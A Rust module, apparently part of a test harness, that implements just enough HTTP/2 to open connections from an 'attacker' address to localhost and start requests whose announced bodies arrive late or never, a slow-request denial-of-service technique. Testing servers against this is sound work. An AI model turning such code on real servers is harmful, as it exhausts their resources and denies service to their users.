//! As much of HTTP/2 as an attack needs (RFC 9113, RFC 7541): requests whose bodies come late or
//! never, as far as the windows of the server allow.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::ensure;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

use crate::bystander::{ATTACKER, connect_from};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;

/// Most bytes of a frame.
const FRAME_BYTES: usize = 16 << 10;

/// A connection, and the windows that the server gave.
pub(crate) struct Connection {
    pub(crate) stream: TcpStream,
    next_id: u32,
    window: usize,
    stream_window: usize,
}

impl Connection {
    /// Connects, and reads the settings of the server.
    pub(crate) async fn open(port: SocketAddr) -> anyhow::Result<Self> {
        let mut stream = connect_from(ATTACKER, port).await?;
        let mut begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        push_frame(&mut begin, SETTINGS, 0, 0, &[]);
        stream.write_all(&begin).await?;
        let mut opened = Self { stream, next_id: 1, window: 65_535, stream_window: 65_535 };
        while opened.read_frame(Duration::from_millis(200)).await? {}
        Ok(opened)
    }

    /// Reads a frame that comes in time; whether there was one.
    async fn read_frame(&mut self, limit: Duration) -> anyhow::Result<bool> {
        let mut head = [0; 9];
        match timeout(limit, self.stream.read_exact(&mut head)).await {
            Err(_) => return Ok(false),
            Ok(read) => read?,
        };
        let mut payload = vec![0; u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize];
        self.stream.read_exact(&mut payload).await?;
        let number = |bytes: &[u8]| bytes.iter().fold(0, |n, byte| (n << 8) | usize::from(*byte));
        match head[3] {
            SETTINGS if head[4] & ACK == 0 => {
                for setting in payload.chunks(6) {
                    if number(&setting[..2]) == 4 {
                        self.stream_window = number(&setting[2..]);
                    }
                }
                let mut ack = Vec::new();
                push_frame(&mut ack, SETTINGS, ACK, 0, &[]);
                self.stream.write_all(&ack).await?;
            }
            WINDOW_UPDATE if number(&head[5..]) == 0 => self.window += number(&payload),
            kind => ensure!(kind != GOAWAY, "the server goes away"),
        }
        Ok(true)
    }

    /// Begins a request that announces a body of so many bytes, and sends as much of `body` as the
    /// windows take.
    pub(crate) async fn begin(&mut self, announced: usize, body: &[u8]) -> anyhow::Result<()> {
        let (id, mut frames) = (self.next_id, Vec::new());
        self.next_id += 2;
        // Indexed: POST, http, /. Literal, not indexed: :authority, content-type, content-length.
        let mut heads = vec![0x83, 0x86, 0x84];
        for (name, value) in [
            (&[0x01][..], "127.0.0.1"),
            (&[0x0f, 0x10], "application/json"),
            (&[0x0f, 0x0d], &announced.to_string()),
        ] {
            heads.extend_from_slice(name);
            heads.push(u8::try_from(value.len())?);
            heads.extend_from_slice(value.as_bytes());
        }
        push_frame(&mut frames, HEADERS, END_HEADERS, id, &heads);
        let sent = body.len().min(self.window).min(self.stream_window);
        self.window -= sent;
        let mut chunks = body[..sent].chunks(FRAME_BYTES).peekable();
        while let Some(chunk) = chunks.next() {
            let ends = chunks.peek().is_none() && sent == announced;
            push_frame(&mut frames, DATA, if ends { END_STREAM } else { 0 }, id, chunk);
        }
        Ok(self.stream.write_all(&frames).await?)
    }
}

fn push_frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}
